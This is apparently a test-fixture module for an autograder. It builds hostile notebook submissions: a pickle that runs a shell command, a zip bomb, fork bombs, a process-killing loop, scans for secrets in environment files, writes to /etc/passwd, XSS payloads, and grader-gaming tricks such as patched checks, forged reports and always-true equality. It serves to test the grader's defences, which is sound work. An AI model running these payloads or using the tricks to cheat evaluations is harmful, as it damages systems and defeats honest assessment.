@@ -1,0 +1,744 @@
+"""Hostile and broken submissions of a2__forest, and what should come of each.
+
+`CANARY` stands in places that no submission may see: the grader's environment, the gradebook,
+another student's work, a hidden check. Code that finds it prints it.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import os
+from collections.abc import Callable
+from pathlib import Path
+from textwrap import dedent
+from typing import Literal
+
+import nbformat
+
+from . import submissions as s
+
+CANARY = "canary-7f3a9c"
+#: A background process of an attack carries this on its command line.
+MARK = "left-behind-51c2"
+
+
+@dataclasses.dataclass(frozen=True)
+class Attack:
+    """A submission that the grader must stand.
+
+    Attributes:
+        name: a student's id.
+        base: what it is made from.
+        change: makes it, in a copy of the base.
+        lost: the checks that must earn nothing: `all`, `none`, or their ids.
+        flags: kinds of flags that the report must show.
+        says: what the notebook's outputs must hold, so that we know that the attack took place.
+    """
+
+    name: str
+    base: Literal["solution", "release"]
+    change: Callable[[Path], None]
+    lost: Literal["all", "none"] | frozenset[str] = "none"
+    flags: frozenset[str] = frozenset()
+    says: str = ""
+
+
+ATTACKS: list[Attack] = []
+
+
+def attack(
+    base: Literal["solution", "release"],
+    *,
+    lost: Literal["all", "none"] | set[str] | None = None,
+    flags: set[str] | None = None,
+    says: str = "",
+) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
+    """Enter a function into the list; what a release loses is all, a solution none, by default."""
+
+    def enter(change: Callable[[Path], None]) -> Callable[[Path], None]:
+        default: Literal["all", "none"] = "all" if base == "release" else "none"
+        expected = frozenset(lost) if isinstance(lost, set) else lost or default
+        name = change.__name__
+        ATTACKS.append(Attack(name, base, change, expected, frozenset(flags or ()), says))
+        return change
+
+    return enter
+
+
+def _values(code: str) -> str:
+    """Code that fills in every name that a check cell hands over, after `code`."""
+    return (
+        dedent(code)
+        + """
+for _name in ("library served answers benign missed alarms threshold requests executions patient "
+              "values reasons first third plain").split():
+    globals()[_name] = VALUE
+forest, verdict, releases = "forest", "verdict", "releases"
+"""
+    )
+
+
+def _before_checks(folder: Path, code: str) -> None:
+    """Run code before every check cell: the stubs' `...` would undo what a first cell did."""
+
+    def change(notebook: nbformat.NotebookNode) -> None:
+        cells = []
+        for cell in notebook.cells:
+            nbgrader = cell.metadata.get("nbgrader", {})
+            if nbgrader.get("grade") and not nbgrader.get("solution"):
+                cells.append(nbformat.v4.new_code_cell(dedent(code).strip()))
+            cells.append(cell)
+        notebook.cells = cells
+
+    s.edit(folder, change)
+
+
+# -- Python, bent -------------------------------------------------------------------------------
+
+
+@attack("release", says="bent")
+def equal_to_everything(folder: Path) -> None:
+    """Values whose `==` always says yes."""
+    _before_checks(
+        folder,
+        _values(
+            """
+            class Always:
+                def __eq__(self, other): return True
+                def __ne__(self, other): return False
+                def __array__(self, *a, **k): return self
+                def __getattr__(self, name): return self
+                def __call__(self, *a, **k): return self
+            VALUE = Always()
+            print("bent")
+            """
+        ),
+    )
+
+
+@attack("release", says="bent")
+def asserts_dropped(folder: Path) -> None:
+    """An AST transformer that takes every assert and raise out of the cells to come."""
+    s.first(
+        folder,
+        """
+        import ast
+
+        class Drop(ast.NodeTransformer):
+            def visit_Assert(self, node): return ast.Pass()
+            visit_Raise = visit_Assert
+
+        get_ipython().ast_transformers.append(Drop())
+        print("bent")
+        """,
+    )
+
+
+@attack("release", says="bent")
+def checks_patched(folder: Path) -> None:
+    """`evaluate` replaced by one that always passes."""
+    s.first(
+        folder,
+        """
+        import grader.check, grader.notebook
+        from grader.results import CheckResult
+
+        def evaluate(check, *rest):
+            return CheckResult(id=check.id, sentence="", status="passed", credit=1)
+
+        grader.check.evaluate = grader.notebook.evaluate = evaluate
+        print("bent")
+        """,
+    )
+
+
+@attack("release", flags={"report disagrees"}, says="bent")
+def reports_forged(folder: Path) -> None:
+    """Reports written by hand, all of them passed."""
+    s.last(
+        folder,
+        """
+        import numpy as np
+        from grader import reports
+        from grader.check import load
+        from grader.results import CheckResult
+
+        table = np.full((114, 2), 0.5)
+        for id, check in load("a2").items():
+            values = {name: 0.5 for name in check.parameters}
+            values |= {"model": "forest", "library": table, "served": table}
+            result = CheckResult(id=id, sentence="", status="passed", credit=1)
+            values = {k: v for k, v in values.items() if k in check.parameters}
+            reports.write(id, values, result, reports.folder("a2"))
+        print("bent")
+        """,
+    )
+
+
+@attack("release", flags={"unreadable report"}, says="bent")
+def reports_that_explode(folder: Path) -> None:
+    """A pickle in an npz, an npz that unpacks to 8 GB, and JSON without end."""
+    s.last(
+        folder,
+        """
+        import json, zipfile
+        import numpy as np
+        from grader import reports
+
+        home = reports.folder("a2")
+
+        class Bomb:
+            def __reduce__(self):
+                import os
+                return os.system, ("touch /tmp/owned",)
+
+        def report(id, values):
+            record = {"version": 1, "check": id, "values": values}
+            (home / f"{id}.json").write_text(json.dumps(record))
+
+        report("a2.forest", {"model": {"$array": "x"}})
+        np.savez(home / "a2.forest.npz", x=np.array([Bomb()], dtype=object))
+        report("a2.probabilities", {"model": {"$array": "x"}})
+        with zipfile.ZipFile(home / "a2.probabilities.npz", "w", zipfile.ZIP_DEFLATED) as file:
+            with file.open("x.npy", "w", force_zip64=True) as member:
+                for _ in range(256):
+                    member.write(bytes(1 << 20))
+        (home / "a2.labels.json").write_text("[" * 100_000)
+        (home / "a2.classes.json").write_text('{"version": 1e999}')
+        print("bent")
+        """,
+    )
+
+
+@attack("release", says="bent")
+def a_grader_of_its_own(folder: Path) -> None:
+    """A package `grader` beside the notebook, and a sitecustomize that would load it."""
+    own = folder / "grader"
+    own.mkdir()
+    (own / "__init__.py").write_text("print('bent')\n")
+    (own / "notebook.py").write_text("def check(*a, **k):\n    print('passed')\n\n\nhint = check\n")
+    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py"):
+        (folder / name).write_text("import builtins\nbuiltins.float = lambda *a: 1.0\n")
+    s.first(folder, "import sys; sys.path.insert(0, '.')\nimport grader")
+
+
+@attack("release", says="bent")
+def an_import_hook(folder: Path) -> None:
+    """A finder that gives another numpy.testing, time and grader.check to whoever asks."""
+    s.first(
+        folder,
+        """
+        import importlib.abc, importlib.machinery, sys
+
+        class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+            def find_spec(self, name, path, target=None):
+                if name.startswith("grader.check"):
+                    return importlib.machinery.ModuleSpec(name, self)
+            def exec_module(self, module):
+                module.load = lambda *a, **k: {}
+
+        sys.meta_path.insert(0, Finder())
+        print("bent")
+        """,
+    )
+
+
+# -- looking and taking -------------------------------------------------------------------------
+
+# In two pieces, or the code would find itself.
+_WORD = f"{CANARY[:6]!r} + {CANARY[6:]!r}"
+
+
+@attack("solution", says="looked")
+def reads_other_files(folder: Path) -> None:
+    """Search the whole file system for what belongs to others."""
+    s.last(
+        folder,
+        f"""
+        import os, pathlib
+        import workbook
+        word = ({_WORD}).encode()
+        root = os.path.dirname(os.path.dirname(workbook.__file__))
+        seen = 0
+        for top in (root, "/root", "/home", "/tmp", "/var", "/srv", "/etc", "/run", "/mnt", "/opt",
+                    "/submission", "/proc/1/root/tmp", "/proc/1/cwd"):
+            for base, folders, files in os.walk(top):
+                folders[:] = [name for name in folders if name not in (".venv", "site-packages")]
+                for name in files:
+                    path = pathlib.Path(base, name)
+                    try:
+                        if path.is_file() and path.stat().st_size < 1 << 20:
+                            seen += 1
+                            if word in path.read_bytes():
+                                print("LEAK", path)
+                    except OSError:
+                        pass
+        print("looked at", seen)
+        for name in ("solutions", "tests", "grader/work", "grader/hidden", "assignments"):
+            if os.path.exists(os.path.join(root, name)):
+                print("LEAK", name)
+        """,
+    )
+
+
+@attack("solution", says="ModuleNotFoundError")
+def imports_hidden_checks(folder: Path) -> None:
+    """Import the hidden checks by their name."""
+    s.last(
+        folder,
+        """
+        import importlib
+        try:
+            print("LEAK", importlib.import_module("grader.hidden.a2"))
+        except ModuleNotFoundError as error:
+            print(type(error).__name__)
+        """,
+    )
+
+
+@attack("solution", says="looked")
+def reads_the_environment(folder: Path) -> None:
+    """Environment variables of this process and of every other one in sight."""
+    s.last(
+        folder,
+        f"""
+        import os, pathlib
+        texts = [repr(dict(os.environ))]
+        for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
+            try:
+                texts.append(path.read_text(errors="replace"))
+            except OSError:
+                pass
+        print("looked", len(texts))
+        if any(({_WORD}) in text for text in texts):
+            print("LEAK")
+        """,
+    )
+
+
+@attack("solution", says="tried")
+def writes_to_the_gradebook(folder: Path) -> None:
+    """Change marks where the gradebook would be, and the course's own code."""
+    s.last(
+        folder,
+        """
+        import os, pathlib, sqlite3, sys
+        import grader, workbook
+        root = pathlib.Path(workbook.__file__).parent.parent
+        for path in (root / "grader/work/gradebook.db", root / "gradebook.db",
+                     root / "workbook/errors.py", root / "grader/check.py",
+                     pathlib.Path(sys.prefix) / "lib/x.py", pathlib.Path("/etc/passwd"),
+                     pathlib.Path("/usr/bin/env"), pathlib.Path("/proc/sys/kernel/hostname")):
+            try:
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_text("changed")
+                print("LEAK", path)
+            except OSError:
+                print("tried", path.name)
+        """,
+    )
+
+
+@attack("solution", says="tried")
+def calls_home(folder: Path) -> None:
+    """Connect to the grader's machine and to the world, by every address family."""
+    s.last(
+        folder,
+        """
+        import os, socket
+        port = int(open("port.txt").read()) if os.path.exists("port.txt") else 9
+        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "192.0.2.1"),
+                             (socket.AF_INET6, "::1")):
+            try:
+                with socket.socket(family) as s:
+                    s.settimeout(2)
+                    s.connect((host, port))
+                    print("LEAK", host)
+            except OSError as error:
+                print("tried", host, error)
+        for name in os.listdir("/tmp"):
+            print("near:", name)
+        """,
+    )
+
+
+# -- taking more than its share -----------------------------------------------------------------
+
+
+@attack("solution", says="started")
+def leaves_a_process_behind(folder: Path) -> None:
+    """A process of a session of its own that ignores every signal."""
+    s.last(
+        folder,
+        f"""
+        import subprocess, sys
+        lines = ["import signal, time", "for n in (1, 2, 3, 15): signal.signal(n, signal.SIG_IGN)"]
+        code = "\\n".join([*lines, "time.sleep(3600)"])
+        subprocess.Popen([sys.executable, "-c", code, "{MARK}"], start_new_session=True)
+        print("started")
+        """,
+    )
+
+
+@attack("release", flags={"stopped"})
+def forks_without_end(folder: Path) -> None:
+    """A storm of forks."""
+    s.first(
+        folder,
+        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+    )
+
+
+@attack("release", says="hungry")
+def eats_memory(folder: Path) -> None:
+    """Allocate and touch memory until something says no."""
+    s.first(
+        folder,
+        """
+        print("hungry")
+        hog = []
+        try:
+            while True:
+                hog.append(bytearray(b"x" * (64 << 20)))
+        except MemoryError:
+            hog.clear()
+            print("enough")
+        """,
+    )
+
+
+@attack("solution", says="full")
+def eats_the_disk(folder: Path) -> None:
+    """Write until no more can be written, and then clean up."""
+    s.first(
+        folder,
+        """
+        import os
+        for home in ("/tmp", "/dev/shm", "."):
+            size = 0
+            try:
+                with open(os.path.join(home, "hog"), "wb") as file:
+                    while size < 64 << 30:
+                        size += file.write(bytes(16 << 20))
+            except OSError as error:
+                print("full", home, size >> 20, error)
+            os.path.exists(os.path.join(home, "hog")) and os.unlink(os.path.join(home, "hog"))
+        """,
+    )
+
+
+@attack("release", flags={"execution"})
+def never_ends(folder: Path) -> None:
+    """A loop that no interrupt ends."""
+    s.first(
+        folder,
+        """
+        import signal
+        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
+            signal.signal(number, signal.SIG_IGN)
+        while True:
+            try:
+                pass
+            except BaseException:
+                pass
+        """,
+    )
+
+
+@attack("release", flags={"execution"})
+def ends_its_kernel(folder: Path) -> None:
+    """`os._exit` in the first cell."""
+    s.first(folder, "import os\nos._exit(0)")
+
+
+@attack("release", flags={"runner ended"})
+def ends_its_runner(folder: Path) -> None:
+    """Kill whatever executes the notebook, and everything else in sight."""
+    s.first(
+        folder,
+        """
+        import os, signal
+        for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
+            if pid not in (1, os.getpid()):
+                try:
+                    os.kill(pid, signal.SIGKILL)
+                except OSError:
+                    pass
+        """,
+    )
+
+
+@attack("solution", says="output cut")
+def says_too_much(folder: Path) -> None:
+    """A line of 100 MB, on standard output and on standard error."""
+    s.last(
+        folder,
+        """
+        import sys
+        print("x" * 100_000_000)
+        print("y" * 10_000_000, file=sys.stderr)
+        """,
+    )
+
+
+# -- models -------------------------------------------------------------------------------------
+
+_PYTHON = """
+import os, signal, socket, time
+import numpy as np
+import triton_python_backend_utils as pb_utils
+
+class TritonPythonModel:
+    def initialize(self, args):
+        {initialize}
+
+    def execute(self, requests):
+        answers = []
+        for request in requests:
+            rows = pb_utils.get_input_tensor_by_name(request, "input__0").as_numpy()
+            half = pb_utils.Tensor("output__0", np.full((len(rows), 2), 0.5, np.float32))
+            answers.append(pb_utils.InferenceResponse([half]))
+        return answers
+"""
+_CONFIG = """
+backend: "python"
+max_batch_size: 256
+input { name: "input__0" data_type: TYPE_FP32 dims: [ 30 ] }
+output { name: "output__0" data_type: TYPE_FP32 dims: [ 2 ] }
+dynamic_batching { }
+instance_group { count: 1 kind: KIND_CPU }
+"""
+
+
+def _python_model(folder: Path, initialize: str) -> None:
+    """Bring a Python model of its own in the forest's place, at the very end of the notebook."""
+    source = _PYTHON.format(initialize=initialize)
+    s.last(
+        folder,
+        f"""
+        import os, pathlib, shutil
+        home = pathlib.Path(os.environ["TRITON_REPOSITORY"]) / "forest"
+        shutil.rmtree(home)
+        (home / "1").mkdir(parents=True)
+        (home / "config.pbtxt").write_text({_CONFIG!r})
+        (home / "1" / "model.py").write_text({source!r})
+        """,
+    )
+
+
+_FOREST = {
+    "a2.forest", "a2.probabilities", "a2.labels", "a2.batching", "a2.shap",
+}  # fmt: skip
+
+
+@attack("solution", lost=_FOREST, flags={"report disagrees"})
+def a_model_of_python(folder: Path) -> None:
+    """The forest replaced by Python code after its checks have passed."""
+    _python_model(folder, "pass")
+
+
+@attack("solution", lost=_FOREST, flags={"report disagrees"})
+def a_model_that_attacks_its_server(folder: Path) -> None:
+    """A model that ends the server and answers in its place."""
+    _python_model(folder, "os.kill(os.getppid(), signal.SIGKILL)")
+
+
+@attack("solution", lost="none", flags={"native library"})
+def a_library_in_the_model(folder: Path) -> None:
+    """A libtriton_fil.so of its own, which the server would load into itself."""
+    s.last(
+        folder,
+        """
+        import os, pathlib, shutil
+        home = pathlib.Path(os.environ["TRITON_REPOSITORY"]) / "forest"
+        shutil.copy("/bin/true", home / "libtriton_fil.so")
+        shutil.copy("/bin/true", home / "1" / "libtriton_fil.so")
+        """,
+    )
+
+
+@attack("solution", lost={"a2.probabilities", "a2.shap", "a2.labels"})
+def answers_only_what_is_visible(folder: Path) -> None:
+    """A forest grown to know the visible rows by heart, labels and all, and no others."""
+
+    def change(notebook: nbformat.NotebookNode) -> None:
+        cell = notebook.cells[s.place(notebook, "a2.train")]
+        cell.source = cell.source.replace(
+            "xgboost.XGBClassifier(**RECIPE).fit(cancer.x_train, cancer.y_train)",
+            "xgboost.XGBClassifier(**{**RECIPE, 'max_depth': 12}).fit("
+            "np.concatenate([cancer.x_train, cancer.x_test]), "
+            "np.concatenate([cancer.y_train, cancer.y_test]))",
+        )
+
+    s.edit(folder, change)
+
+
+@attack("solution", lost="none")
+def links_in_the_repository(folder: Path) -> None:
+    """Links, devices and pipes beside the models."""
+    s.last(
+        folder,
+        """
+        import os
+        home = os.environ["TRITON_REPOSITORY"]
+        os.symlink("/etc/passwd", os.path.join(home, "forest", "passwd"))
+        os.symlink("/", os.path.join(home, "root"))
+        os.mkfifo(os.path.join(home, "pipe"))
+        """,
+    )
+
+
+@attack("release", lost="all")
+def names_that_climb(folder: Path) -> None:
+    """Names of models that are paths."""
+    _before_checks(
+        folder,
+        _values("import numpy as np\nVALUE = np.full((114, 2), 0.5)")
+        + 'forest, verdict, releases = "../../etc", "/etc/passwd", "a/../../b"\n',
+    )
+
+
+# -- what is handed in --------------------------------------------------------------------------
+
+
+@attack("release", flags={"unreadable notebook"})
+def not_a_notebook(folder: Path) -> None:
+    """Bytes."""
+    (folder / f"{s.SHORT}.ipynb").write_bytes(os.urandom(5_000))
+
+
+@attack("release", flags={"unreadable notebook"})
+def no_notebook(folder: Path) -> None:
+    """Nothing."""
+    (folder / f"{s.SHORT}.ipynb").unlink()
+
+
+@attack("release", flags={"unreadable notebook"})
+def cells_that_are_none(folder: Path) -> None:
+    """JSON that looks like a notebook from afar."""
+    content = {"cells": [None, 7, {"cell_type": "code"}], "metadata": [], "nbformat": 4}
+    (folder / f"{s.SHORT}.ipynb").write_text(json.dumps(content))
+
+
+@attack("solution", flags={"copied cell"})
+def a_check_copied(folder: Path) -> None:
+    """A check cell twice, as copy and paste makes it."""
+
+    def change(notebook: nbformat.NotebookNode) -> None:
+        at = s.place(notebook, "a2.forest")
+        copy = nbformat.from_dict({**notebook.cells[at], "id": "a-copy"})
+        notebook.cells.insert(at + 1, copy)
+
+    s.edit(folder, change)
+
+
+@attack("solution", flags={"deleted cell"})
+def checks_deleted(folder: Path) -> None:
+    """Two check cells gone; the grader puts them back."""
+
+    def change(notebook: nbformat.NotebookNode) -> None:
+        for id in ("a2.threshold", "a2.probabilities"):
+            del notebook.cells[s.place(notebook, id)]
+
+    s.edit(folder, change)
+
+
+@attack("release", flags={"edited cell"})
+def checks_edited(folder: Path) -> None:
+    """Check cells that check nothing, with points of their own."""
+
+    def change(notebook: nbformat.NotebookNode) -> None:
+        for cell in notebook.cells:
+            if cell.metadata.get("nbgrader", {}).get("grade"):
+                cell.metadata["nbgrader"]["points"] = 1_000
+                if cell.cell_type == "code":
+                    cell.source = "100"
+
+    s.edit(folder, change)
+
+
+@attack("release", flags={"foreign cell"})
+def another_assignment(folder: Path) -> None:
+    """The notebook of another assignment under this one's name."""
+    other = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("check('a9.other')")
+    cell.metadata["nbgrader"] = {
+        "schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False,
+        "points": 100, "grade_id": "a9-other", "cell_type": "code",
+    }  # fmt: skip
+    other.cells = [cell]
+    nbformat.write(other, folder / f"{s.SHORT}.ipynb")
+
+
+@attack("solution")
+def scripts_for_the_instructor(folder: Path) -> None:
+    """HTML and JavaScript in outputs and text, for whoever opens the notebook to grade it."""
+    s.last(
+        folder,
+        """
+        from IPython.display import HTML, Javascript, SVG, display
+        display(HTML("<script>owned()</script><img src=x onerror=owned()>"))
+        display(Javascript("owned()"))
+        bundle = {"image/svg+xml": "<svg onload=owned()></svg>", "text/html": "<b onclick=owned()>"}
+        display(bundle, raw=True)
+        """,
+    )
+
+    def change(notebook: nbformat.NotebookNode) -> None:
+        text = "<script>owned()</script>\n<iframe src='javascript:owned()'></iframe>"
+        text += "[x](javascript:owned())"
+        notebook.cells.append(nbformat.v4.new_markdown_cell(text))
+        written = notebook.cells[s.place(notebook, "a2.why")]
+        written.source = text + written.source
+
+    s.edit(folder, change)
+
+
+@attack("solution")
+def warnings_everywhere(folder: Path) -> None:
+    """Warnings on standard error in every cell, which nbgrader alone would score as wrong."""
+    s.first(
+        folder,
+        """
+        import sys, warnings
+        get_ipython().events.register(
+            "post_run_cell", lambda *a: (warnings.warn("careful"), print("oh", file=sys.stderr)))
+        """,
+    )
+
+
+@attack("release", flags={"execution"})
+def a_server_of_its_own_that_hogs(folder: Path) -> None:
+    """Threads that burn every processor until the time is up."""
+    s.first(
+        folder,
+        """
+        import os, signal
+        signal.signal(signal.SIGINT, signal.SIG_IGN)
+        for _ in range(4):
+            if os.fork() == 0:
+                while True:
+                    pass
+        while True:
+            pass
+        """,
+    )
+
+
+def make(item: Attack, to: Path) -> Path:
+    """Write the submission of an attack."""
+    folder = getattr(s, item.base)(to)
+    item.change(folder)
+    return folder
+
+
+def outputs(notebook: str) -> str:
+    """All text that an executed notebook shows."""
+    parts = []
+    for cell in json.loads(notebook)["cells"]:
+        for output in cell.get("outputs", ()):
+            parts.append(str(output.get("text", "")))
+            parts.append(json.dumps(output.get("data", "")))
+            parts.append(f"{output.get('ename', '')} {output.get('evalue', '')}")
+    return "\n".join(parts)
